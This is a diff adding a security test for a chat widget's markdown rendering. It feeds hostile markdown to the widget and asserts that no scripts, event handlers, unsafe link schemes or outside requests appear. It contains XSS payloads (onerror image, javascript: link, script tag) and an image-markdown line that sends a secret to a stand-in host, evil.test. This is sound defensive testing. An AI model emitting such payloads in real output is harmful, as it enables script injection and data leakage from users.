@@ -1,0 +1,47 @@
+import { readFile } from 'node:fs/promises'
+import { join } from 'node:path'
+import { fileURLToPath } from 'node:url'
+import { expect, test } from 'vitest'
+import { ask, setStage } from './__fixtures__/stage.js'
+
+const stage = setStage()
+
+test('hostile text stays text: nothing runs, nothing is fetched', async () => {
+  const page = await stage.open('/')
+  const payloads = await hostileMarkdown()
+  stage.server.script([{ pieces: payloads.map((each) => `${each}\n\n`) }])
+  const foreign: string[] = []
+  page.on('request', (request) => request.url().startsWith(stage.server.url) || foreign.push(request.url()))
+  const widget = await ask(page, stage.server)
+  stage.server.finish()
+  await widget.locator('.growing, .typing').waitFor({ state: 'detached' })
+  const found = await widget.locator('.log').evaluate((log) => {
+    const elements = [...log.querySelectorAll('.markdown *')]
+    return {
+      names: [...new Set(elements.map((each) => each.localName))],
+      handlers: elements.flatMap((each) => each.getAttributeNames()).filter((name) => name.startsWith('on') || name === 'style'),
+      schemes: [
+        ...new Set(
+          elements
+            .map((each) => (each as HTMLAnchorElement).href)
+            .filter(Boolean)
+            .map((href) => new URL(href).protocol),
+        ),
+      ],
+    }
+  })
+  expect(
+    found.names.filter((name) => ['script', 'img', 'iframe', 'svg', 'style', 'form', 'input', 'object', 'embed', 'link', 'meta', 'base'].includes(name)),
+  ).toEqual([])
+  expect(found.handlers).toEqual([])
+  expect(found.schemes.filter((scheme) => !['http:', 'https:', 'mailto:'].includes(scheme))).toEqual([])
+  expect(foreign).toEqual([])
+})
+
+async function hostileMarkdown(): Promise<string[]> {
+  const own = ['<img src=x onerror=alert(1)>', '[x](javascript:alert(1))', '![x](https://evil.test/?q=SECRET)', '<script>alert(1)</script>']
+  const attack = process.env.COACHKIT_ATTACK ?? fileURLToPath(new URL('../../../shared/attack', import.meta.url))
+  const lines = await Promise.all(['markdown_output.jsonl', 'xss_payloads.jsonl'].map((name) => readFile(join(attack, name), 'utf8').catch(() => '')))
+  const rows = lines.flatMap((text) => text.split('\n').filter(Boolean))
+  return [...own, ...rows.map((row) => (JSON.parse(row) as { payload: string }).payload.slice(0, 400))]
+}
